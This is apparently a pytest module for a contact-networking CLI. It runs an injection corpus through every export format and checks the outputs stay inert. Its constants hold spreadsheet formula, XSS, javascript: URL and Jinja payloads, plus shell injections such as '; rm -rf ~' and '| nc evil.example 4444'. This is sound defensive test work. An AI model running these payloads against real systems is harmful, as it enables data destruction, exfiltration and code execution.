"""An injection corpus through every output format.

Payloads of each kind (spreadsheet formulas with and without leading whitespace, HTML and
JavaScript, ``javascript:`` URLs, Markdown and Jinja, shell metacharacters, terminal escapes and
bidi controls) go into names, companies and titles (through a LinkedIn export, a friend's
export and a vCard file), into notes (``log --note``) and into the user's own title and company
(``me``). Then every output is checked for what its reader would be fooled by:

- CSV: no cell starts with a formula trigger, even after the whitespace a spreadsheet strips;
  every value comes back exactly (but for the ``'`` that neutralises it).
- JSON: strict, and every value comes back exactly; no raw terminal escape or bidi control.
- ICS: parseable, one event per follow-up with only its own properties, the text escaped.
- vCard (``card``): parseable, only its own properties, the title and company exact.
- Markdown (``ask``, ``prep``): the same structure as a draft about a plain person (no link,
  image, HTML, heading or list from contact data), and the payload shows as written
  (``{{ 7*7 }}`` stays ``{{ 7*7 }}``).
- HTML maps: no payload outside the page's escaped JSON, which holds each name exactly.
- Terminal tables and messages: no ESC, C1 control or bidi control character.
"""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import unicodedata
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import networkx as nx
import pytest
import vobject
from cli_helpers import ok_in, run_in
from click.testing import Result
from icalendar import Calendar
from markdown_it import MarkdownIt

from netgraph.output import csv_cell, json_text, terminal_text
from netgraph.outreach.template_files import code_span
from netgraph.suggest import command

FORMULA_BODIES = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# What a spreadsheet may strip before it looks for "=": whitespace, ideographic space included.
FORMULA_PREFIXES = ("", "\t", "\r", " ", "\u3000")
FORMULAS = (
    *(prefix + body for body in FORMULA_BODIES for prefix in FORMULA_PREFIXES),
    "|cmd /C calc",
    "%0A=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
)
HTML_JS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a> href',
    "<iframe src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
)
MARKDOWN_JINJA = (
    "{{ 7*7 }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{# hidden #}",
    "[x](javascript:alert(1))",
    "![](http://evil.example/pixel.png)",
    "<http://evil.example>",
    "# Heading",
    "**bold** _em_ `code`",
    "| a | b |",
    "> quote",
    "1. item",
    "- item",
    "---",
    "[ref]: http://evil.example",
    "\\`escaped\\`",
)
SHELL = (
    "$(touch pwned)",
    "`touch pwned`",
    "; rm -rf ~",
    "| nc evil.example 4444",
    "&& curl evil.example",
    "' ; touch x ; '",
    '" ; touch x ; "',
    "${IFS}x",
    "a\\b\\",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31mcsi",
    "\u202eevil\u202c",
    "\u2066iso\u2069",
    "x\u200fy",
    "x\u200ey",
    "\u061cx",
    "\x07bell",
    "\x08back",
    "\x1b]0;title\x07",
)
CORPUS = {
    "formula": FORMULAS,
    "html": HTML_JS,
    "url": URLS,
    "markdown/jinja": MARKDOWN_JINJA,
    "shell": SHELL,
    "terminal": TERMINAL,
}
PAYLOADS = tuple(p for group in CORPUS.values() for p in group)
HEADER = ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"]
FORMULA_TRIGGERS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# Terminal escapes start with ESC or a C1 control; bidi controls reorder what is shown.
TERMINAL_UNSAFE = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)
YESTERDAY = (date.today() - timedelta(days=1)).isoformat()


def cli_ok(workspace: Path, *args: object) -> Result:
    """Run netgraph and check it succeeded and that its messages are safe for a terminal."""
    result = ok_in(workspace, *args)
    assert not TERMINAL_UNSAFE.search(result.stderr), (args, result.stderr)
    return result


# --- the workspace -----------------------------------------------------------------------------


@dataclass
class Corpus:
    """A workspace holding every payload, and who holds which."""

    path: Path
    second: list[int]  # second-degree people, one per payload (targets with a note)
    plain: int  # a second-degree target with plain text, to compare drafts with
    referrer: int

    def stored(self) -> dict[str, set[str]]:
        """The names, companies, titles and notes as the workspace keeps them."""
        with sqlite3.connect(self.path) as conn:
            values = {
                column: {v for (v,) in conn.execute(f"SELECT {column} FROM people") if v}
                for column in ("name", "company", "title")
            }
            values["note"] = {v for (v,) in conn.execute("SELECT note FROM outreach") if v}
        return values

    def values(self) -> set[str]:
        """Every name, company, title and note in the workspace."""
        return set().union(*self.stored().values())

    def second_values(self) -> list[dict[str, str]]:
        """The name, company, title and note of each second-degree person, as stored."""
        with sqlite3.connect(self.path) as conn:
            return [
                dict(
                    zip(
                        ("name", "company", "title", "note"),
                        conn.execute(
                            "SELECT p.name, p.company, p.title, o.note FROM people p "
                            "JOIN outreach o ON o.person_id = p.id WHERE p.id = ?",
                            (person,),
                        ).fetchone(),
                        strict=True,
                    )
                )
                for person in self.second
            ]


def row(first: str, last: str, slug: str, company: str, title: str) -> list[str]:
    """A Connections.csv row. Line breaks go in as spaces: the vCard file carries them (a
    quoted line break in a LinkedIn export is the CSV reader's own test)."""
    fields = [first, last, f"https://www.linkedin.com/in/{slug}", "", company, title, ""]
    return [re.sub(r"[\r\n]", " ", field) for field in fields]


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER)
        writer.writerows(rows)
    return path


def vcard_text(value: str) -> str:
    """A vCard 3.0 text value."""
    return (
        value.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;")
        .replace("\r\n", "\\n").replace("\n", "\\n").replace("\r", "\\n")
    )  # fmt: skip


def vcards(payloads: tuple[str, ...]) -> str:
    cards = []
    for i, payload in enumerate(payloads):
        cards.append(
            f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{vcard_text(payload)} V{i}\r\n"
            f"N:V{i};{vcard_text(payload)};;;\r\nORG:{vcard_text(payload)}\r\n"
            f"TITLE:{vcard_text(payload)}\r\nEMAIL:v{i}@example.com\r\nEND:VCARD\r\n"
        )
    return "".join(cards)


def build(folder: Path) -> Corpus:
    """Me; first-degree contacts from my LinkedIn export and vCard file; a friend's export of
    second-degree people, each logged as met with a hostile note."""
    path = folder / "workspace.sqlite3"
    cli_ok(path, "me", "Noor Test", "--email", "noor@example.com")
    mine = [row("Ref", "One", "ref-one", "Plain Co", "Plain Title")]
    mine += [row(p, f"H{i}", f"h-{i}", p, p) for i, p in enumerate(PAYLOADS)]
    mine.append(row("Plain", "H", "plain-h", "Plain Co2", "Plain Title"))
    cli_ok(path, "import", "linkedin", write_csv(folder / "mine.csv", mine))
    (folder / "mine.vcf").write_text(vcards(PAYLOADS), encoding="utf-8")
    cli_ok(path, "import", "vcard", folder / "mine.vcf")
    friends = [row(p, f"S{i}", f"s-{i}", p, p) for i, p in enumerate(PAYLOADS)]
    friends.append(row("Plain", "Second", "plain-s", "Plain Co2", "Plain Title"))
    ids = slugs(path)
    export = write_csv(folder / "friend.csv", friends)
    cli_ok(path, "import", "linkedin", export, "--owner", f"#{ids['ref-one']}")
    ids = slugs(path)
    second = [ids[f"s-{i}"] for i in range(len(PAYLOADS))]
    for person, note in zip([*second, ids["plain-s"]], [*PAYLOADS, "Plain"], strict=True):
        cli_ok(path, "log", f"#{person}", "met", "--date", YESTERDAY, "--note", note)
    return Corpus(path, second, ids["plain-s"], ids["ref-one"])


def slugs(path: Path) -> dict[str, int]:
    with sqlite3.connect(path) as conn:
        rows = conn.execute("SELECT person_id, value FROM identities WHERE kind = 'linkedin'")
        return {value.rstrip("/").rsplit("/", 1)[-1]: int(pid) for pid, value in rows}


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> Corpus:
    return build(tmp_path_factory.mktemp("injection"))


# --- CSV ---------------------------------------------------------------------------------------


def spreadsheet_view(cell: str) -> str:
    """What a spreadsheet may look at for a formula: the cell without the leading whitespace
    and invisible characters it may strip."""
    start = 0
    while start < len(cell) and (
        cell[start].isspace() or unicodedata.category(cell[start]) in ("Cc", "Cf")
    ):
        start += 1
    return cell[start:]


def assert_inert(cell: str) -> None:
    """A cell cannot run as a formula: it starts with the neutralising ' or with no trigger."""
    view = spreadsheet_view(cell)
    if not cell.startswith("'") and view.startswith(FORMULA_TRIGGERS):
        assert re.fullmatch(r"[+-]?\d+(\.\d+)?", view), cell


CSV_COMMANDS = {
    "rank": (("rank", "--format", "csv"), "name"),
    "rank targets": (("rank", "--targets", "--format", "csv"), "name"),
    "pipeline": (("pipeline", "--format", "csv"), "name"),
    "followups": (("followups", "--all", "--format", "csv"), "person"),
    "people": (("people", "--format", "csv"), "name"),
}


@pytest.mark.parametrize("which", CSV_COMMANDS)
def test_csv_cells_never_start_a_formula_and_keep_the_text(corpus: Corpus, which: str) -> None:
    args, name_column = CSV_COMMANDS[which]

    text = cli_ok(corpus.path, *args).stdout

    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)
    header, *body = list(csv.reader(io.StringIO(text)))
    for cell in (cell for r in body for cell in r):
        assert_inert(cell)
    columns = {"name": name_column, "company": "company", "title": "title", "note": "note"}
    for key, column in columns.items():
        if column not in header:
            continue
        kept = {r[header.index(column)] for r in body}
        # each value as written, or neutralised by a ' in front of it
        missing = [v[key] for v in corpus.second_values() if not {v[key], "'" + v[key]} & kept]
        assert not missing, (column, missing[:5])


def test_csv_cell_neutralises_every_formula_of_the_corpus() -> None:
    for payload in (*FORMULAS, *(p + "x" for p in FORMULA_TRIGGERS)):
        cell = csv_cell(payload)
        assert cell == "'" + payload.replace("\x00", ""), repr(payload)
        back = next(csv.reader(io.StringIO(json_free_csv(cell))))
        assert back == [cell]
    for number in ("-1.5", "+3", " -2", "\u30001e3", "42"):
        assert csv_cell(number) == number


def json_free_csv(cell: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, quoting=csv.QUOTE_ALL).writerow([cell])
    return buffer.getvalue()


# --- JSON --------------------------------------------------------------------------------------


def strict_json(text: str) -> Any:
    def refuse(constant: str) -> None:
        raise AssertionError(f"not JSON: {constant}")

    return json.loads(text, parse_constant=refuse)


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def json_outputs(corpus: Corpus) -> Iterator[tuple[str, str]]:
    """(command, output) of every JSON output."""
    for args in (
        ("rank", "--format", "json"),
        ("pipeline", "--format", "json"),
        ("followups", "--all", "--format", "json"),
        ("people", "--format", "json"),
        ("target", "list", "--format", "json"),
        ("export", "graph", "--format", "json"),
        ("info", "--format", "json"),
        ("duplicates", "--format", "json"),
    ):
        yield " ".join(args), cli_ok(corpus.path, *args).stdout
    for line in cli_ok(corpus.path, "rank", "--format", "jsonl").stdout.splitlines():
        yield "rank --format jsonl", line
    for person in corpus.second:
        for args in (("show", f"#{person}"), ("who-can-introduce", f"#{person}")):
            yield args[0], cli_ok(corpus.path, *args, "--format", "json").stdout


def test_json_is_strict_and_gives_back_the_exact_text(corpus: Corpus) -> None:
    found: set[str] = set()
    for label, text in json_outputs(corpus):
        assert not TERMINAL_UNSAFE.search(text), (label, TERMINAL_UNSAFE.findall(text))
        found.update(strings(strict_json(text)))
    missing = corpus.values() - found
    assert not missing, sorted(missing)[:5]


def test_json_text_escapes_what_a_terminal_would_run_and_round_trips() -> None:
    for payload in PAYLOADS:
        text = json_text({"name": payload})
        assert not TERMINAL_UNSAFE.search(text), repr(payload)
        assert json.loads(text) == {"name": payload}


# --- graph export -----------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["graphml", "gexf"])
def test_graph_export_parses_and_gives_back_the_exact_text(
    corpus: Corpus, kind: str, tmp_path: Path
) -> None:
    out = tmp_path / f"network.{kind}"
    cli_ok(corpus.path, "export", "graph", "--format", kind, "-o", out)

    graph = nx.read_graphml(out) if kind == "graphml" else nx.read_gexf(out)

    values = {v for _, data in graph.nodes(data=True) for v in data.values() if isinstance(v, str)}
    missing = (corpus.stored()["name"] | corpus.stored()["company"]) - values
    assert not missing, sorted(missing)[:5]


# --- ICS ---------------------------------------------------------------------------------------

EVENT_PROPERTIES = {
    "UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "CATEGORIES", "TRANSP",
}  # fmt: skip


def test_ics_parses_and_every_event_keeps_to_its_own_properties(corpus: Corpus) -> None:
    items = strict_json(cli_ok(corpus.path, "followups", "--all", "--format", "json").stdout)
    data = cli_ok(corpus.path, "followups", "--all", "--format", "ics").stdout_bytes

    assert not TERMINAL_UNSAFE.search(data.decode("utf-8").replace("\r\n", ""))
    calendar = Calendar.from_ical(data)
    events = list(calendar.walk("VEVENT"))
    assert len(events) == len(items) >= len(PAYLOADS)
    for event, item in zip(events, items, strict=True):
        assert set(event) == EVENT_PROPERTIES, sorted(event)
        assert [c.name for c in event.subcomponents] == ["VALARM"]
        day = item["due"].replace("-", "")
        assert str(event["UID"]) == f"{item['kind']}-{item['person_id']}-{day}@netgraph"
        assert str(event["SUMMARY"]).endswith(terminal_text(item["person"]))
        description = str(event["DESCRIPTION"])
        assert f"Your note: {terminal_text(item['note'])}" in description
    raw = data.decode("utf-8")
    assert "\\;" in raw and "\\," in raw  # text values are escaped, not cut into parameters


# --- vCard -------------------------------------------------------------------------------------

CARD_PROPERTIES = {"version", "prodid", "kind", "fn", "n", "org", "title", "email", "rev"}


def test_own_card_parses_with_a_hostile_title_and_company(tmp_path: Path) -> None:
    path = tmp_path / "card.sqlite3"
    cli_ok(path, "me", "Noor Test", "--email", "noor@example.com")
    for payload in PAYLOADS:
        cli_ok(path, "me", "--title", payload, "--company", payload[::-1])
        me = strict_json(cli_ok(path, "me", "--format", "json").stdout)

        text = cli_ok(path, "card").stdout_bytes.decode("utf-8")

        assert not TERMINAL_UNSAFE.search(text.replace("\r\n", "")), repr(payload)
        card = vobject.readOne(text)
        assert {child.name.lower() for child in card.getChildren()} == CARD_PROPERTIES
        assert card.title.value == terminal_text(me["title"]), repr(payload)
        org = card.org.value
        assert (";".join(org) if isinstance(org, list) else org) == terminal_text(me["company"])


# --- Markdown drafts ---------------------------------------------------------------------------


def structure(markdown: str) -> Counter[str]:
    """The kinds of Markdown element a document has, counted (netgraph's own commands, in
    code spans, apart: how many there are depends on the data)."""
    tokens = MarkdownIt("commonmark").enable("table").enable("strikethrough").parse(markdown)
    inline = [child for t in tokens if t.children for child in t.children]
    return Counter(
        t.type
        for t in [*tokens, *inline]
        if t.type not in ("text", "softbreak")
        and not (t.type == "code_inline" and t.content.startswith("netgraph "))
    )


def shown_text(markdown: str) -> str:
    """The text a reader sees (code included), one line per block."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    shown = {"text": None, "code_inline": None, "softbreak": " "}
    return "\n".join(
        "".join(shown[c.type] or c.content for c in t.children if c.type in shown)
        for t in tokens
        if t.children
    )


# Whether there is a list of the people at an organisation, and how long, depends on the data.
VARIES = {
    *("bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"),
    *("paragraph_open", "paragraph_close", "inline"),
}


@pytest.mark.parametrize("kind", ["ask", "prep"])
def test_drafts_add_no_structure_and_show_each_payload_as_written(
    corpus: Corpus, kind: str
) -> None:
    plain = cli_ok(corpus.path, kind, f"#{corpus.plain}").stdout
    baseline = structure(plain)
    for person, stored in zip(corpus.second, corpus.second_values(), strict=True):
        page = cli_ok(corpus.path, kind, f"#{person}").stdout

        assert not TERMINAL_UNSAFE.search(page), stored
        kinds = structure(page)
        for element in set(kinds) | set(baseline):
            if element not in VARIES:
                assert kinds[element] == baseline[element], (element, stored)
        shown = shown_text(page)
        for key in ("name", "company", "title"):  # as written: not escaped, not evaluated
            assert " ".join(terminal_text(stored[key]).split()) in shown, (key, stored)


def test_a_code_span_shows_any_command_exactly() -> None:
    for payload in PAYLOADS:
        suggestion = command("people", payload)
        tokens = MarkdownIt("commonmark").parseInline(f"- and 3 more: {code_span(suggestion)}")
        codes = [t for t in tokens[0].children if t.type == "code_inline"]
        assert [t.content for t in codes] == [" ".join(suggestion.splitlines())], repr(payload)


# --- HTML maps ---------------------------------------------------------------------------------


def page_data(html: str) -> tuple[dict[str, Any], str]:
    """The map's data (checked to be escaped JSON) and the page without it."""
    match = re.search(
        r'<script type="application/json" id="netgraph-data">(.*?)</script>', html, re.S
    )
    assert match is not None
    data: dict[str, Any] = strict_json(match.group(1))
    assert "<" not in match.group(1) and "&" not in match.group(1)
    return data, html.replace(match.group(1), "")


def test_maps_hold_each_payload_only_as_escaped_data(corpus: Corpus, tmp_path: Path) -> None:
    maps = {
        "network": (),
        "targets": ("--targets",),
        "focus": ("--focus", f"#{corpus.second[0]}"),
        "company": ("--company", "script"),
    }
    names = corpus.stored()["name"]
    seen: set[str] = set()
    for label, options in maps.items():
        out = tmp_path / f"{label}.html"
        cli_ok(corpus.path, "map", "-o", out, *options)
        html = out.read_text(encoding="utf-8")

        for payload in PAYLOADS:
            if re.search(r"[<>&]", payload):
                assert payload not in html, (label, payload)
        data, page = page_data(html)
        shown = {p["name"] for p in data["people"]}
        assert not [name for name in shown if name in page], label  # names only in the data
        seen.update(shown)
        assert html.count("</script>") == 3, label
    assert names - {"Noor Test"} <= seen


# --- terminal ----------------------------------------------------------------------------------


def terminal_outputs(corpus: Corpus) -> Iterator[tuple[str, Result]]:
    person = f"#{corpus.second[0]}"
    for args in (
        ("people",),
        ("rank",),
        ("rank", "--targets"),
        ("pipeline",),
        ("followups", "--all"),
        ("target", "list"),
        ("info",),
        ("me",),
        ("templates",),
        ("duplicates",),
        ("why", person),
        ("why", person, f"#{corpus.second[-1]}"),
    ):
        yield " ".join(args), run_in(corpus.path, *args)
    for target in corpus.second:
        yield "show", run_in(corpus.path, "show", f"#{target}")
        yield "who-can-introduce", run_in(corpus.path, "who-can-introduce", f"#{target}")
    yield (
        "who-can-introduce no route",
        run_in(corpus.path, "who-can-introduce", person, "--max-hops", "1"),
    )
    yield "ask error", run_in(corpus.path, "ask", person, "--max-hops", "1")
    for payload in PAYLOADS:
        yield "show (not found)", run_in(corpus.path, "show", payload)
        yield "people search", run_in(corpus.path, "people", payload)


def test_terminal_output_has_no_escape_or_bidi_control(corpus: Corpus) -> None:
    for label, result in terminal_outputs(corpus):
        assert result.exit_code in (0, 2, 5, 6), (label, result.output, result.exception)
        for stream in (result.stdout, result.stderr):
            assert not TERMINAL_UNSAFE.search(stream), (label, TERMINAL_UNSAFE.findall(stream))
